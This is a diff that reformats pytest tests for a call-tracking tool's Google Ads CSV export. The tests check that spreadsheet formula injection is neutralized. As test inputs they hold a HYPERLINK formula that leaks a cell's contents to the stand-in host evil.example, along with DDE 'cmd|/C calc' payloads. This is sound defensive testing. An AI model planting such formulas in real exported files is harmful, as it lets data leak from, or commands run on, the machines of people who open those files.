@@ -23,20 +23,23 @@ from tests.support.report_data import TZ, call, new_db, save_calls, utc
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
-@pytest.mark.parametrize("value, safe", [
-    (EVIL, "'" + EVIL),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("<script>alert(1)</script>", "<script>alert(1)</script>"),   # harmless in a spreadsheet
-    ("+12125550001", "+12125550001"),                                # an E.164 number stays usable
-    ("-3.5", "-3.5"),
-    ("Jane Doe", "Jane Doe"),
-    (42, 42),
-    (None, None),
-])
+@pytest.mark.parametrize(
+    "value, safe",
+    [
+        (EVIL, "'" + EVIL),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("<script>alert(1)</script>", "<script>alert(1)</script>"),  # harmless in a spreadsheet
+        ("+12125550001", "+12125550001"),  # an E.164 number stays usable
+        ("-3.5", "-3.5"),
+        ("Jane Doe", "Jane Doe"),
+        (42, 42),
+        (None, None),
+    ],
+)
 def test_neutralize(value, safe):
     assert neutralize(value) == safe
 
@@ -66,27 +69,35 @@ G2 = "EAIaIQobTwo_Conversion-2"
 def env(tmp_path):
     path = tmp_path / "g.db"
     conn = new_db(path)
-    save_calls(path, [
-        call("g1", "2024-03-10 07:30:00", "Google Ads", "+12125550001", "answered", 90, gclid=G1),
-        call("g2", "2024-03-09 04:30:00", "Google Ads", "+12125550002", "answered", 61, gclid=G2),
-        call("g3", "2024-03-10 08:00:00", "Google Ads", "+12125550003", "answered", 30, gclid="Cj0NotQualified3"),
-        call("g4", "2024-03-10 09:00:00", "Google Ads", "+12125550004", "answered", 300, gclid=EVIL),
-        call("g5", "2024-03-10 10:00:00", "Radio", "+12125550005", "answered", 300),
-        call("g6", "2024-03-10 11:00:00", "Google Ads", "+12125550006", "missed", gclid="Cj0MissedCall6"),
-    ])
+    save_calls(
+        path,
+        [
+            call("g1", "2024-03-10 07:30:00", "Google Ads", "+12125550001", "answered", 90, gclid=G1),
+            call("g2", "2024-03-09 04:30:00", "Google Ads", "+12125550002", "answered", 61, gclid=G2),
+            call("g3", "2024-03-10 08:00:00", "Google Ads", "+12125550003", "answered", 30, gclid="Cj0NotQualified3"),
+            call("g4", "2024-03-10 09:00:00", "Google Ads", "+12125550004", "answered", 300, gclid=EVIL),
+            call("g5", "2024-03-10 10:00:00", "Radio", "+12125550005", "answered", 300),
+            call("g6", "2024-03-10 11:00:00", "Google Ads", "+12125550006", "missed", gclid="Cj0MissedCall6"),
+        ],
+    )
     conn.execute("UPDATE calls SET value = 250 WHERE uniqueid = 'g2'")
     ini = tmp_path / "ctrack.ini"
-    ini.write_text(f"[ctrack]\ntimezone = {TZ}\n[conversions]\ncurrency = eur\nvalue = 15\n"
-                   "[google_ads]\nconversion_name = Booked call\nupload_user = googleads\n"
-                   "upload_password = s3cret-upload-pass\n")
+    ini.write_text(
+        f"[ctrack]\ntimezone = {TZ}\n[conversions]\ncurrency = eur\nvalue = 15\n"
+        "[google_ads]\nconversion_name = Booked call\nupload_user = googleads\n"
+        "upload_password = s3cret-upload-pass\n"
+    )
 
     def run(*args):
         return CliRunner().invoke(cli, ["--config", str(ini), "--db", str(path), *args])
+
     return run, conn, ini, path
 
 
-HEADER = ["Parameters:TimeZone=America/New_York",
-          "Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency"]
+HEADER = [
+    "Parameters:TimeZone=America/New_York",
+    "Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency",
+]
 ROW_G2 = f"{G2},Booked call,2024-03-08 23:30:00-05:00,250.00,EUR"
 ROW_G1 = f"{G1},Booked call,2024-03-10 03:30:00-04:00,15.00,EUR"
 
@@ -102,9 +113,10 @@ def test_cli_exports_each_conversion_once(env):
     assert "0 conversions exported" in again.stderr
     other = run("export", "google-ads", "--conversion-name", "Phone lead")
     assert [line.split(",")[0] for line in other.stdout.splitlines()[2:]] == [G2, G1]
-    resend = run("export", "google-ads", "--conversion-name", "Booked call", "--include-exported",
-                 "--since", "2024-03-09")
-    assert resend.stdout.splitlines() == [*HEADER, ROW_G1]     # g2 was on 03-08 local time
+    resend = run(
+        "export", "google-ads", "--conversion-name", "Booked call", "--include-exported", "--since", "2024-03-09"
+    )
+    assert resend.stdout.splitlines() == [*HEADER, ROW_G1]  # g2 was on 03-08 local time
     assert conn.execute("SELECT count(*) FROM outbox WHERE kind = 'google_ads'").fetchone()[0] == 4
 
 
@@ -125,8 +137,9 @@ def test_cli_refuses_a_formula_as_conversion_name(env):
     run, conn, _, _ = env
     result = run("export", "google-ads", "--conversion-name", "=1+1")
     assert result.exit_code == 1
-    assert result.output == ("ctrack: error: conversion name '=1+1': use up to 100 characters, starting with a "
-                             "letter or digit\n")
+    assert result.output == (
+        "ctrack: error: conversion name '=1+1': use up to 100 characters, starting with a letter or digit\n"
+    )
 
 
 async def test_scheduled_upload_url_needs_basic_auth_and_exports_once(env):
